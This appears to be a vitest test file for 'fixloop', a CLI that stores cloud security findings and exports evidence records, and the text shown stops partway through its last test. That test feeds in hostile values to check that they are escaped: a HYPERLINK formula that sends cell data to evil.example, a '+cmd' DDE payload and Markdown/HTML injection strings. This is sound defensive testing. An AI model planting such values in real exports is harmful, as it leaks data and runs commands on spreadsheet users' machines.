// The store as a user meets it on the command line: `ingest --store`, `findings`, `finding` and
// `evidence`, on real sample documents and a temporary data directory. The clock is fixed (only
// Date is faked) so stored times, and with them whole outputs, can be compared exactly.

import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it, vi } from "vitest";
import { main } from "../../src/cli/main.ts";
import { evidenceHtml } from "../../src/evidence/html.ts";
import { buildEvidenceRecord } from "../../src/evidence/record.ts";
import { changeState } from "../../src/lifecycle/change-state.ts";
import { recordRemediation, updateRemediation } from "../../src/store/remediations.ts";
import { Store } from "../../src/store/store.ts";
import { recordVerifications } from "../../src/store/verifications.ts";

const REPO = process.cwd();
const CSPM = "fixtures/findings/generic/cspm-batch.json";
const S38 = "fixtures/findings/asff/afsbp-s3.8.json";

/** The dedupe keys of the valid records of the two fixtures (the other two CSPM records are rejected). */
const BUCKET = "5c7579463ae931d10dec4ec9"; // generic, critical, confidence too low: awaiting approval
const SG = "b71bcea8a45d481aa71bc276"; // generic EC2.13, high: fixing
const S3_8 = "ae0285f654a07dbf10547f88"; // Security Hub S3.8, medium: fixing

let dataDir: string;
const dirs: string[] = [];

function tempDir(): string {
  const dir = mkdtempSync(join(tmpdir(), "fixloop-store-cli-"));
  dirs.push(dir);
  return dir;
}

/**
 * Runs the CLI with an empty environment (so a developer's DATABASE_URL can never send a test run
 * to a real database) unless the test gives one.
 */
async function run(args: string[], options: { cwd?: string; env?: NodeJS.ProcessEnv } = {}) {
  let stdout = "";
  let stderr = "";
  const code = await main(args, {
    stdout: { write: (s: string) => (stdout += s) },
    stderr: { write: (s: string) => (stderr += s) },
    cwd: options.cwd ?? REPO,
    env: options.env ?? {},
  });
  return { code, stdout, stderr };
}

const at = (iso: string) => vi.setSystemTime(new Date(iso));

function writeJson(value: unknown): string {
  const file = join(tempDir(), "findings.json");
  writeFileSync(file, JSON.stringify(value));
  return file;
}

/** Lines of `text` from the one starting with `heading` up to the next blank line. */
function section(text: string, heading: string): string[] {
  const lines = text.split("\n");
  const start = lines.indexOf(heading);
  expect(start, `no "${heading}" section in:\n${text}`).toBeGreaterThanOrEqual(0);
  const end = lines.indexOf("", start);
  return lines.slice(start, end === -1 ? undefined : end);
}

/** A minimal RFC 4180 reader, to check the CSV round-trips to the intended cells. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted && c === '"' && text[i + 1] === '"') {
      cell += '"';
      i++;
    } else if (c === '"' && (quoted || cell === "")) {
      quoted = !quoted;
    } else if (!quoted && c === ",") {
      row.push(cell);
      cell = "";
    } else if (!quoted && c === "\r" && text[i + 1] === "\n") {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = "";
      i++;
    } else {
      cell += c;
    }
  }
  expect(cell === "" && row.length === 0, "the CSV ends with CRLF").toBe(true);
  return rows;
}

beforeEach(() => {
  vi.useFakeTimers({ toFake: ["Date"] });
  at("2026-11-03T09:00:00.000Z");
  dataDir = tempDir();
});

afterEach(() => {
  vi.useRealTimers();
  for (const dir of dirs.splice(0)) rmSync(dir, { recursive: true, force: true });
});

describe("fixloop ingest --store", () => {
  it("stores the findings and reports their ids, states and outcomes; a re-ingest updates without new events", async () => {
    const first = await run(["ingest", CSPM, S38, "--store", "--data-dir", dataDir, "--json"]);
    expect(first.code).toBe(1); // two CSPM records are rejected, as without --store
    const out = JSON.parse(first.stdout);
    expect(out.store).toBe(join(dataDir, "fixloop.sqlite"));
    expect(out.rejected).toHaveLength(2);
    expect(out.findings.map((f: Record<string, unknown>) => [f.id, f.state, f.outcome])).toEqual([
      [BUCKET, "awaiting_approval", "created"],
      [SG, "fixing", "created"],
      [S3_8, "fixing", "created"],
    ]);
    // The triage fields are all still there, the triage reason included.
    expect(out.findings[1]).toMatchObject({ dedupeKey: SG, reason: "risk 68 (high) with confidence 0.64" });

    const trailBefore = JSON.parse((await run(["finding", S3_8, "--json", "--data-dir", dataDir])).stdout);
    expect(trailBefore.auditTrail).toHaveLength(3);

    at("2026-11-03T10:00:00.000Z");
    const again = JSON.parse(
      (await run(["ingest", CSPM, S38, "--store", "--data-dir", dataDir, "--json"])).stdout,
    );
    expect(again.findings.map((f: Record<string, unknown>) => [f.id, f.state, f.outcome])).toEqual([
      [BUCKET, "awaiting_approval", "updated"],
      [SG, "fixing", "updated"],
      [S3_8, "fixing", "updated"],
    ]);
    for (const id of [BUCKET, SG, S3_8]) {
      const shown = JSON.parse((await run(["finding", id, "--json", "--data-dir", dataDir])).stdout);
      expect(shown.auditTrail).toHaveLength(3);
      expect(shown.auditTrail.every((e: { at: string }) => e.at === "2026-11-03T09:00:00.000Z")).toBe(true);
    }
  });

  it("prints the stored id, state and outcome per finding and where the store is", async () => {
    const r = await run(["ingest", S38, "--store", "--data-dir", dataDir]);
    expect(r.code).toBe(0);
    expect(r.stdout.split("\n")).toEqual([
      "medium    45  securityhub  S3.8 → aws-s3-public-access-block  arn:aws:s3:::example",
      "    pr: risk 45 (medium) with confidence 0.77",
      "    Medium risk (45/100): high severity. SLA due 2021-08-13. dedupe ae0285f654a07dbf10547f88",
      "    stored as ae0285f654a0: fixing (created)",
      "",
      `1 finding (1 actionable), 0 rejected, 0 files unreadable. Stored in ${join(dataDir, "fixloop.sqlite")}: 1 created, 0 updated, 0 skipped.`,
      "",
    ]);
  });

  it("reports a passing record of something never seen failing as skipped, with the reason", async () => {
    const passed = { ...(JSON.parse(readFileSync(S38, "utf8")) as object), Compliance: { Status: "PASSED" } };
    const r = await run(["ingest", writeJson(passed), "--store", "--data-dir", dataDir, "--json"]);
    expect(r.code).toBe(0);
    expect(JSON.parse(r.stdout).findings[0]).toMatchObject({
      id: S3_8,
      state: null,
      outcome: "skipped",
      outcomeReason: "the source reports it passed and it was never seen failing",
    });
    expect((await run(["findings", "--data-dir", dataDir])).stdout).toMatch(/^No findings stored in /);
  });

  it("behaves as before without --store: same output, nothing written", async () => {
    const cwd = tempDir();
    const plain = await run(["ingest", join(REPO, S38)], { cwd });
    const stored = await run(["ingest", join(REPO, S38), "--store"], { cwd, env: {} });
    expect(plain.code).toBe(0);
    const withoutStoreLines = stored.stdout
      .replace(/ Stored in .*$/m, "")
      .split("\n")
      .filter((l) => !l.startsWith("    stored as"));
    expect(withoutStoreLines).toEqual(plain.stdout.split("\n"));
    expect(plain.stdout).not.toContain("Stored");
    // The default store is .fixloop/ in the working directory; FIXLOOP_DATA_DIR moves it.
    expect(existsSync(join(cwd, ".fixloop", "fixloop.sqlite"))).toBe(true);
    const other = await run(["ingest", join(REPO, S38), "--store"], {
      cwd,
      env: { FIXLOOP_DATA_DIR: "elsewhere" },
    });
    expect(other.stdout).toContain(`Stored in ${join(cwd, "elsewhere", "fixloop.sqlite")}: 1 created`);
  });

  it("--complete-scan: a merged finding the tool's whole scan of its account no longer reports has passed the re-scan", async () => {
    await run(["ingest", S38, "--store", "--data-dir", dataDir]);
    const store = await Store.open({ dataDir });
    try {
      for (const to of ["pr_open", "merged"] as const)
        await changeState(store, { findingId: S3_8, to, actor: { kind: "app" }, reason: to });
    } finally {
      await store.close();
    }
    at("2026-11-05T09:00:00.000Z");
    const scan = writeJson({ Findings: [] });
    const args = ["ingest", scan, "--format", "asff", "--store", "--data-dir", dataDir, "--complete-scan"];
    const r = await run([...args, "--accounts", "111111111111", "--tool", "securityhub"]);
    expect(r.stderr).toBe("");
    expect(r.code).toBe(0);
    expect(r.stdout.split("\n").at(-2)).toBe(
      `0 findings (0 actionable), 0 rejected, 0 files unreadable. Stored in ${join(dataDir, "fixloop.sqlite")}: 0 created, 0 updated, 0 skipped. Absent from the complete scan (a passing re-scan recorded): ae0285f654a0.`,
    );
    const json = JSON.parse(
      (await run([...args, "--accounts", "111111111111", "--tool", "securityhub", "--json"])).stdout,
    );
    expect(json.absent).toEqual([S3_8]);
    const evidence = JSON.parse(
      (await run(["evidence", S3_8, "--format", "json", "--data-dir", dataDir])).stdout,
    );
    // One row per run (the --json run recorded a second); both are the absence.
    expect(evidence.verification.checks).toMatchObject([
      { kind: "runtime", result: "passed", checkedBy: "securityhub", observedAt: "2026-11-05T09:00:00.000Z" },
      { kind: "runtime", result: "passed", checkedBy: "securityhub" },
    ]);
    expect(evidence.verification.checks[0].detail).toMatch(
      /^S3\.8 \(arn:aws:securityhub:.+\) is absent from a complete scan of account 111111111111 \(every rule\)$/,
    );

    const other = await run([...args, "--accounts", "222222222222", "--tool", "securityhub"]);
    expect(other.stdout).toContain("Absent from the complete scan (a passing re-scan recorded): none.");
  });

  it("refuses --complete-scan without --store, without accounts, or without a tool for an empty scan", async () => {
    const scan = writeJson({ Findings: [] });
    const without = await run(["ingest", scan, "--format", "asff", "--complete-scan", "--accounts", "1"]);
    expect(without.code).toBe(2);
    expect(without.stderr).toBe(
      "fixloop ingest: --complete-scan only applies with --store (it records re-scan results)\n",
    );
    const base = ["ingest", scan, "--format", "asff", "--store", "--data-dir", dataDir];
    expect((await run([...base, "--complete-scan", "--tool", "securityhub"])).stderr).toBe(
      "fixloop ingest: a complete scan names the accounts it covered: --accounts <id>[,<id>…] (AWS accounts, Azure subscriptions or GCP projects)\n",
    );
    expect((await run([...base, "--complete-scan", "--accounts", "1"])).stderr).toBe(
      "fixloop ingest: an empty complete scan must name its tool: --tool <name> (for example securityhub, wiz, prisma, generic)\n",
    );
    expect((await run([...base, "--accounts", "1"])).stderr).toBe(
      "fixloop ingest: --accounts, --rules and --tool describe a complete scan: add --complete-scan, or leave them out\n",
    );
  });

  it("refuses --data-dir without --store", async () => {
    const r = await run(["ingest", S38, "--data-dir", dataDir]);
    expect(r.code).toBe(2);
    expect(r.stderr).toBe(
      "fixloop ingest: --data-dir only applies with --store (nothing is stored without it)\n",
    );
  });
});

describe("fixloop findings", () => {
  it("lists stored findings highest risk first, and only those in a state with --state", async () => {
    await run(["ingest", CSPM, S38, "--store", "--data-dir", dataDir]);
    const all = await run(["findings", "--data-dir", dataDir]);
    expect(all.code).toBe(0);
    expect(all.stdout.split("\n")).toEqual([
      "ID            STATE              RISK          RULE                               RESOURCE                                                                TEAM           LAST SEEN",
      "5c7579463ae9  awaiting_approval  critical 100  unspecified                        arn:aws:s3:::prod-customer-data-backups                                 data-platform  2026-11-03T09:00:00Z",
      "b71bcea8a45d  fixing             high 68       EC2.13 → aws-sg-open-admin-ports   arn:aws:ec2:us-east-1:123456789012:security-group/sg-0a1b2c3d4e5f67890  payments       2026-11-03T09:00:00Z",
      "ae0285f654a0  fixing             medium 45     S3.8 → aws-s3-public-access-block  arn:aws:s3:::example                                                    -              2022-02-21T09:49:14Z",
      "",
      `3 findings (1 awaiting_approval, 2 fixing) in ${join(dataDir, "fixloop.sqlite")}.`,
      "",
    ]);

    const fixing = await run(["findings", "--state", "fixing", "--json", "--data-dir", dataDir]);
    expect(JSON.parse(fixing.stdout).findings.map((f: { id: string }) => f.id)).toEqual([SG, S3_8]);
    const text = await run(["findings", "--state", "fixing", "--data-dir", dataDir]);
    expect(
      text.stdout
        .split("\n")
        .slice(1, 3)
        .map((l) => l.slice(0, 12)),
    ).toEqual([SG.slice(0, 12), S3_8.slice(0, 12)]);
    expect(text.stdout).toContain(`2 findings in state fixing in ${join(dataDir, "fixloop.sqlite")}.\n`);

    const none = await run(["findings", "--state", "resolved", "--data-dir", dataDir]);
    expect(none).toEqual({
      code: 0,
      stdout: `No findings in state resolved in ${join(dataDir, "fixloop.sqlite")}.\n`,
      stderr: "",
    });
  });

  it("--breached lists only the open findings past their SLA due date", async () => {
    at("2026-11-04T10:00:00Z");
    await run(["ingest", CSPM, S38, "--store", "--data-dir", dataDir]);
    // Due: the bucket (critical) 2026-11-04 08:15, the security group (high) 2026-11-06 11:00,
    // the S3.8 finding (first seen in 2021) long ago.
    const breached = await run(["findings", "--breached", "--data-dir", dataDir]);
    expect(breached.stdout.split("\n")).toEqual([
      "ID            STATE              RISK          RULE                               RESOURCE                                 TEAM           LAST SEEN",
      "5c7579463ae9  awaiting_approval  critical 100  unspecified                        arn:aws:s3:::prod-customer-data-backups  data-platform  2026-11-04T10:00:00Z",
      "ae0285f654a0  fixing             medium 45     S3.8 → aws-s3-public-access-block  arn:aws:s3:::example                     -              2022-02-21T09:49:14Z",
      "",
      `2 findings past their SLA (1 awaiting_approval, 1 fixing) in ${join(dataDir, "fixloop.sqlite")}.`,
      "",
    ]);
    const json = await run(["findings", "--breached", "--state", "fixing", "--json", "--data-dir", dataDir]);
    expect(JSON.parse(json.stdout).findings.map((f: { id: string }) => f.id)).toEqual([S3_8]);

    // Two hours earlier the bucket was still within its SLA.
    at("2026-11-04T08:00:00Z");
    const earlier = await run(["findings", "--breached", "--json", "--data-dir", dataDir]);
    expect(JSON.parse(earlier.stdout).findings.map((f: { id: string }) => f.id)).toEqual([S3_8]);
    expect(
      await run(["findings", "--breached", "--state", "awaiting_approval", "--data-dir", dataDir]),
    ).toEqual({
      code: 0,
      stdout: `No open findings past their SLA in state awaiting_approval in ${join(dataDir, "fixloop.sqlite")}.\n`,
      stderr: "",
    });
  });

  it("says so in one line on an empty store", async () => {
    const r = await run(["findings", "--data-dir", dataDir]);
    expect(r).toEqual({
      code: 0,
      stdout: `No findings stored in ${join(dataDir, "fixloop.sqlite")}. Store some with \`fixloop ingest <file>… --store\`.\n`,
      stderr: "",
    });
  });

  it("rejects an unknown --state, naming the allowed ones", async () => {
    const r = await run(["findings", "--state", "open", "--data-dir", dataDir]);
    expect(r.code).toBe(2);
    expect(r.stderr).toBe(
      'fixloop findings: --state must be one of new, triaged, recorded_only, awaiting_approval, fixing, pr_open, merged, verifying, resolved, reopened, unlocatable, unfixable, false_positive_pending, suppressed, excepted, closed_unmerged, awaiting_exception (got "open")\n',
    );
  });
});

describe("fixloop finding", () => {
  it("shows one finding by id prefix with its risk, sources and whole audit trail", async () => {
    await run(["ingest", CSPM, "--store", "--data-dir", dataDir]);
    const r = await run(["finding", "5c757", "--data-dir", dataDir]);
    expect(r.code).toBe(0);
    expect(r.stdout.split("\n").slice(0, 2)).toEqual([
      `Finding ${BUCKET} (awaiting_approval)`,
      "Enable S3 Block Public Access on the bucket",
    ]);
    expect(section(r.stdout, "Risk")).toEqual([
      "Risk",
      "  Critical risk (100/100): critical severity × internet reachable × PII × on an attack path.",
      "  severity    critical severity   60 points",
      "  internet    internet reachable  ×1.5",
      "  data        PII                 ×1.4",
      "  attackPath  on an attack path   ×1.5",
    ]);
    expect(section(r.stdout, "Sources")).toEqual([
      "Sources",
      "  generic (generic)  failed  first seen 2026-11-02T08:15:00.000Z  last seen 2026-11-03T09:00:00.000Z  f-7f3a9c21",
    ]);
    expect(section(r.stdout, "Audit trail")).toEqual([
      "Audit trail",
      "  2026-11-03T09:00:00.000Z  — → new                      ingest from generic  first seen in generic (generic) as f-7f3a9c21",
      "  2026-11-03T09:00:00.000Z  new → triaged                fixloop              Critical risk (100/100): critical severity × internet reachable × PII × on an attack path.",
      "  2026-11-03T09:00:00.000Z  triaged → awaiting_approval  fixloop              confidence 0.45 is below 0.6: a human approves before the PR opens",
    ]);
  });

  it("fails with exit 2 on an unknown or ambiguous id", async () => {
    await run(["ingest", S38, "--store", "--data-dir", dataDir]);
    expect(await run(["finding", "ffff0000", "--data-dir", dataDir])).toEqual({
      code: 2,
      stdout: "",
      stderr: 'fixloop finding: no finding with id "ffff0000"\n',
    });
    // Two buckets whose dedupe keys share their first four characters (514b…), found by search.
    const twins = ["logs-108", "logs-225"].map((name) => ({
      finding_id: `f-${name}`,
      resource_arn: `arn:aws:s3:::${name}`,
      severity: "low",
    }));
    await run(["ingest", writeJson(twins), "--store", "--data-dir", dataDir]);
    const ambiguous = await run(["evidence", "514b", "--data-dir", dataDir]);
    expect(ambiguous.code).toBe(2);
    expect(ambiguous.stderr).toMatch(
      /^fixloop evidence: finding id "514b" is ambiguous: it starts 2 findings \(514b[0-9a-f]{20}, 514b[0-9a-f]{20}\); give more characters\n$/,
    );
  });
});

describe("fixloop evidence", () => {
  /**
   * The S3.8 finding's whole life: ingested, fixed by a PR fixloop opens, merged by a person,
   * verified by CI and by Security Hub's own re-scan (ingested as a PASSED record), resolved.
   * The store calls stand in for the GitHub App steps that are not built yet.
   */
  async function resolvedS38(): Promise<void> {
    await run(["ingest", S38, "--store", "--data-dir", dataDir]);
    const store = await Store.open({ dataDir });
    try {
      at("2026-11-03T09:05:00.000Z");
      const pr = "https://github.com/acme/infra/pull/42";
      const fix = await store.transaction((tx) =>
        recordRemediation(
          tx,
          {
            findingId: S3_8,
            repository: "acme/infra",
            branch: "fixloop/aws-s3-public-access-block-example",
            prNumber: 42,
            prUrl: pr,
            commitSha: "1a2b3c4d5e6f",
            files: ["storage/s3.tf"],
            diff: "--- a/storage/s3.tf\n+++ b/storage/s3.tf\n@@ -3,0 +4,4 @@\n+  block_public_acls = true\n",
            assignment: { team: "storage", reviewers: ["octocat"], decidedBy: "CODEOWNERS" },
          },
          store.now(),
        ),
      );
      const app = { kind: "app" } as const;
      await changeState(store, {
        findingId: S3_8,
        to: "pr_open",
        actor: app,
        reason: "opened pull request #42",
        links: { pr },
      });
      at("2026-11-04T10:00:00.000Z");
      await store.transaction((tx) =>
        updateRemediation(tx, fix, { mergeCommitSha: "9f8e7d6c5b4a" }, store.now()),
      );
      await changeState(store, {
        findingId: S3_8,
        to: "merged",
        actor: { kind: "github-user", login: "octocat", id: 583231 },
        reason: "pull request #42 merged",
        links: { pr, commit: "9f8e7d6c5b4a" },
      });
      await changeState(store, {
        findingId: S3_8,
        to: "verifying",
        actor: app,
        reason: "waiting for CI and the source's re-scan",
      });
      at("2026-11-04T10:20:00.000Z");
      await store.transaction((tx) =>
        recordVerifications(tx, [
          {
            findingId: S3_8,
            kind: "ci",
            result: "passed",
            checkedBy: "terraform-plan",
            observedAt: store.now(),
            detail: "terraform plan on 9f8e7d6c5b4a shows the public access block",
            links: { checkRun: "https://github.com/acme/infra/runs/7" },
          },
        ]),
      );
    } finally {
      await store.close();
    }
    // Security Hub's next evaluation of the bucket passes: kept as runtime evidence.
    at("2026-11-04T12:00:00.000Z");
    const passed = {
      ...(JSON.parse(readFileSync(S38, "utf8")) as object),
      Compliance: { Status: "PASSED" },
      LastObservedAt: "2026-11-04T11:58:00.000Z",
      UpdatedAt: "2026-11-04T11:58:00.000Z",
    };
    await run(["ingest", writeJson(passed), "--store", "--data-dir", dataDir]);
    const again = await Store.open({ dataDir });
    try {
      at("2026-11-04T12:01:00.000Z");
      await changeState(again, {
        findingId: S3_8,
        to: "resolved",
        actor: { kind: "app" },
        reason: "CI passed on the merge commit and securityhub reports it passed",
      });
    } finally {
      await again.close();
    }
  }

  it("prints the evidence record as Markdown", async () => {
    await resolvedS38();
    const r = await run(["evidence", "ae0285", "--format", "md", "--data-dir", dataDir]);
    expect(r.code).toBe(0);
    expect(r.stdout).toMatchInlineSnapshot(`
      "# Evidence for finding ae0285f654a07dbf10547f88

      - Title: S3.8 S3 Block Public Access setting should be enabled at the bucket-level
      - State: resolved
      - Rule: S3.8 → aws-s3-public-access-block
      - Severity: high
      - Resource: arn:aws:s3:::example (AwsS3Bucket, account 111111111111, us-east-1)

      ## Detection

      - Detected: 2021-07-14T17:06:07.284Z
      - Last seen: 2026-11-04T11:58:00.000Z
      - Recorded by fixloop: 2026-11-03T09:00:00.000Z
      - Source: securityhub (asff) arn:aws:securityhub:us-east-1:111111111111:subscription/aws-foundational-security-best-practices/v/1.0.0/S3.8/finding/e0182181-9218-420f-bef2-ed09ed230c59, passed, first seen 2021-07-14T17:06:07.284Z, last seen 2026-11-04T11:58:00.000Z
      - Guidance from the source: For directions on how to fix this issue, consult the AWS Security Hub Foundational Security Best Practices documentation. https://docs.aws.amazon.com/console/securityhub/S3.8/remediation

      ## Risk

      Medium risk (45/100): high severity.

      | factor | value | weight |
      | --- | --- | --- |
      | severity | high severity | 45 |

      ## Assignment

      - Team: storage
      - Reviewers: octocat
      - Decided by: CODEOWNERS

      ## Remediation

      - Pull request: #42 https://github.com/acme/infra/pull/42
      - Repository: acme/infra
      - Branch: fixloop/aws-s3-public-access-block-example
      - Commit: 1a2b3c4d5e6f
      - Merge commit: 9f8e7d6c5b4a
      - Files: storage/s3.tf
      - Recorded: 2026-11-03T09:05:00.000Z

      \`\`\`diff
      --- a/storage/s3.tf
      +++ b/storage/s3.tf
      @@ -3,0 +4,4 @@
      +  block_public_acls = true
      \`\`\`

      ## Verification

      Result: verified

      | observed | kind | result | checked by | detail | links |
      | --- | --- | --- | --- | --- | --- |
      | 2026-11-04T10:20:00.000Z | ci | passed | terraform-plan | terraform plan on 9f8e7d6c5b4a shows the public access block | checkRun: https://github.com/acme/infra/runs/7 |
      | 2026-11-04T11:58:00.000Z | runtime | passed | securityhub | securityhub reports S3.8 passed for arn:aws:s3:::example (arn:aws:securityhub:us-east-1:111111111111:subscription/aws-foundational-security-best-practices/v/1.0.0/S3.8/finding/e0182181-9218-420f-bef2-ed09ed230c59) |  |

      ## SLA

      - Due: 2021-08-13T17:06:07.284Z
      - Resolved: 2026-11-04T12:01:00.000Z
      - Breached: yes, resolved after the due date

      ## Audit trail

      | time | from | to | actor | reason | links |
      | --- | --- | --- | --- | --- | --- |
      | 2026-11-03T09:00:00.000Z | — | new | ingest from securityhub | first seen in securityhub (asff) as arn:aws:securityhub:us-east-1:111111111111:subscription/aws-foundational-security-best-practices/v/1.0.0/S3.8/finding/e0182181-9218-420f-bef2-ed09ed230c59 |  |
      | 2026-11-03T09:00:00.000Z | new | triaged | fixloop | Medium risk (45/100): high severity. |  |
      | 2026-11-03T09:00:00.000Z | triaged | fixing | fixloop | risk 45 (medium) with confidence 0.77 |  |
      | 2026-11-03T09:05:00.000Z | fixing | pr\\_open | fixloop | opened pull request \\#42 | pr: https://github.com/acme/infra/pull/42 |
      | 2026-11-04T10:00:00.000Z | pr\\_open | merged | GitHub user octocat (id 583231) | pull request \\#42 merged | pr: https://github.com/acme/infra/pull/42, commit: 9f8e7d6c5b4a |
      | 2026-11-04T10:00:00.000Z | merged | verifying | fixloop | waiting for CI and the source's re-scan |  |
      | 2026-11-04T12:01:00.000Z | verifying | resolved | fixloop | CI passed on the merge commit and securityhub reports it passed |  |
      "
    `);
  });

  it("prints the evidence record as CSV, one row per audit event", async () => {
    await resolvedS38();
    const r = await run(["evidence", "ae0285", "--format", "csv", "--data-dir", dataDir]);
    expect(r.code).toBe(0);
    expect(r.stdout).toMatchInlineSnapshot(`
      "finding_id,detected_at,source,rule,risk_tier,risk_score,team,pr,commit,verification,event_at,from_state,to_state,actor,reason,links
      ae0285f654a07dbf10547f88,2021-07-14T17:06:07.284Z,securityhub arn:aws:securityhub:us-east-1:111111111111:subscription/aws-foundational-security-best-practices/v/1.0.0/S3.8/finding/e0182181-9218-420f-bef2-ed09ed230c59,S3.8 → aws-s3-public-access-block,medium,45,storage,https://github.com/acme/infra/pull/42,9f8e7d6c5b4a,verified,2026-11-03T09:00:00.000Z,,new,ingest from securityhub,first seen in securityhub (asff) as arn:aws:securityhub:us-east-1:111111111111:subscription/aws-foundational-security-best-practices/v/1.0.0/S3.8/finding/e0182181-9218-420f-bef2-ed09ed230c59,
      ae0285f654a07dbf10547f88,2021-07-14T17:06:07.284Z,securityhub arn:aws:securityhub:us-east-1:111111111111:subscription/aws-foundational-security-best-practices/v/1.0.0/S3.8/finding/e0182181-9218-420f-bef2-ed09ed230c59,S3.8 → aws-s3-public-access-block,medium,45,storage,https://github.com/acme/infra/pull/42,9f8e7d6c5b4a,verified,2026-11-03T09:00:00.000Z,new,triaged,fixloop,Medium risk (45/100): high severity.,
      ae0285f654a07dbf10547f88,2021-07-14T17:06:07.284Z,securityhub arn:aws:securityhub:us-east-1:111111111111:subscription/aws-foundational-security-best-practices/v/1.0.0/S3.8/finding/e0182181-9218-420f-bef2-ed09ed230c59,S3.8 → aws-s3-public-access-block,medium,45,storage,https://github.com/acme/infra/pull/42,9f8e7d6c5b4a,verified,2026-11-03T09:00:00.000Z,triaged,fixing,fixloop,risk 45 (medium) with confidence 0.77,
      ae0285f654a07dbf10547f88,2021-07-14T17:06:07.284Z,securityhub arn:aws:securityhub:us-east-1:111111111111:subscription/aws-foundational-security-best-practices/v/1.0.0/S3.8/finding/e0182181-9218-420f-bef2-ed09ed230c59,S3.8 → aws-s3-public-access-block,medium,45,storage,https://github.com/acme/infra/pull/42,9f8e7d6c5b4a,verified,2026-11-03T09:05:00.000Z,fixing,pr_open,fixloop,opened pull request #42,pr=https://github.com/acme/infra/pull/42
      ae0285f654a07dbf10547f88,2021-07-14T17:06:07.284Z,securityhub arn:aws:securityhub:us-east-1:111111111111:subscription/aws-foundational-security-best-practices/v/1.0.0/S3.8/finding/e0182181-9218-420f-bef2-ed09ed230c59,S3.8 → aws-s3-public-access-block,medium,45,storage,https://github.com/acme/infra/pull/42,9f8e7d6c5b4a,verified,2026-11-04T10:00:00.000Z,pr_open,merged,GitHub user octocat (id 583231),pull request #42 merged,pr=https://github.com/acme/infra/pull/42; commit=9f8e7d6c5b4a
      ae0285f654a07dbf10547f88,2021-07-14T17:06:07.284Z,securityhub arn:aws:securityhub:us-east-1:111111111111:subscription/aws-foundational-security-best-practices/v/1.0.0/S3.8/finding/e0182181-9218-420f-bef2-ed09ed230c59,S3.8 → aws-s3-public-access-block,medium,45,storage,https://github.com/acme/infra/pull/42,9f8e7d6c5b4a,verified,2026-11-04T10:00:00.000Z,merged,verifying,fixloop,waiting for CI and the source's re-scan,
      ae0285f654a07dbf10547f88,2021-07-14T17:06:07.284Z,securityhub arn:aws:securityhub:us-east-1:111111111111:subscription/aws-foundational-security-best-practices/v/1.0.0/S3.8/finding/e0182181-9218-420f-bef2-ed09ed230c59,S3.8 → aws-s3-public-access-block,medium,45,storage,https://github.com/acme/infra/pull/42,9f8e7d6c5b4a,verified,2026-11-04T12:01:00.000Z,verifying,resolved,fixloop,CI passed on the merge commit and securityhub reports it passed,
      "
    `);
    const rows = parseCsv(r.stdout);
    expect(rows).toHaveLength(1 + 7);
    expect(new Set(rows.map((row) => row.length))).toEqual(new Set([16]));
  });

  it("writes the evidence record as the same HTML page the API serves", async () => {
    await resolvedS38();
    const r = await run(["evidence", "ae0285", "--format", "html", "--data-dir", dataDir]);
    expect(r.code).toBe(0);
    const store = await Store.open({ dataDir });
    try {
      expect(r.stdout).toBe(evidenceHtml(await buildEvidenceRecord(store.db, S3_8)));
    } finally {
      await store.close();
    }
    expect(r.stdout.startsWith("<!DOCTYPE html>")).toBe(true);
    expect(r.stdout).toContain("<h1>Evidence for finding ae0285f654a07dbf10547f88</h1>");
    expect(r.stdout).toContain("<dt>State</dt><dd>resolved</dd>");
  });

  it("a period is not written as HTML: the error says which formats are", async () => {
    await resolvedS38();
    const r = await run(["evidence", "--since", "2026-11-01", "--format", "html", "--data-dir", dataDir]);
    expect(r.code).not.toBe(0);
    expect(r.stderr).toBe(
      'fixloop evidence: --format with --since must be one of json, csv, md (got "html")\n',
    );
  });

  it("prints the evidence record as JSON by default", async () => {
    await resolvedS38();
    const record = JSON.parse((await run(["evidence", S3_8, "--data-dir", dataDir])).stdout);
    expect(record.verification).toEqual({
      result: "verified",
      checks: [
        expect.objectContaining({ kind: "ci", result: "passed", checkedBy: "terraform-plan" }),
        expect.objectContaining({ kind: "runtime", result: "passed", checkedBy: "securityhub" }),
      ],
    });
    expect(record.assignment).toEqual({ team: "storage", reviewers: ["octocat"], decidedBy: "CODEOWNERS" });
    expect(record.sla).toEqual({
      due: "2021-08-13T17:06:07.284Z",
      breached: true,
      // Resolved years after its due date, never seen by a sweep: breached when the SLA ran out.
      breachedAt: "2021-08-13T17:06:07.284Z",
      resolvedAt: "2026-11-04T12:01:00.000Z",
    });
    expect(record.audit.map((e: { actorLabel: string }) => e.actorLabel)).toContain(
      "GitHub user octocat (id 583231)",
    );
  });

  it("neutralizes spreadsheet formulas and Markdown in text that came from a finding", async () => {
    // No real sample carries an attack, so this document is built here: a generic payload whose
    // every free-text field a sender controls is hostile. The rule id and owner team land at the
    // start of CSV cells (where a spreadsheet would run them as formulas); the title and team
    // land in Markdown (where they could become links, HTML or @mentions that notify people).
    const hostile = {
      finding_id: '=HYPERLINK("https://evil.example/?d="&A1,"open")',
      resource_arn: "arn:aws:s3:::customer-exports",
      severity: "high",
      rule_id: '=HYPERLINK("https://evil.example","S3.8")',
      title: "@security-team see [this](https://evil.example) | <img src=x> `x` *y* _z_ #1\u001b[2J",
      context: { owner_team: "+cmd|' /C calc'!A0" },
      metadata: { first_seen: "2026-10-31T00:00:00Z" },
    };
    const ingested = await run(["ingest", writeJson(hostile), "--store", "--data-dir", dataDir, "--json"]);
    const id: string = JSON.parse(ingested.stdout).findings[0].id;

    const csv = await run(["evidence", id, "--format", "csv", "--data-dir", dataDir]);
    const rows = parseCsv(csv.stdout);
    const col = (name: string) => rows[0]!.indexOf(name);
    for (const row of rows.slice(1)) {
      expect(row[col("rule")]).toBe(`'${hostile.rule_id}`);
      expect(row[col("team")]).toBe(`'${hostile.context.owner_team}`);
      expect(row[col("source")]).toBe(`generic ${hostile.finding_id}`);
      for (const cell of row) expect(cell).not.toMatch(/^\s*[=+\-@]/);
    }

    const md = (await run(["evidence", id, "--format", "md", "--data-dir", dataDir])).stdout;
    expect(md).toContain(
      "- Title: @\u200Bsecurity-team see \\[this\\](https://evil.example) \\| \\<img src=x\\> \\`x\\` \\*y\\* \\_z\\_ \\#1\uFFFD\\[2J\n",
    );
    expect(md).toContain("- Team: +cmd\\|' /C calc'\\!A0\n");
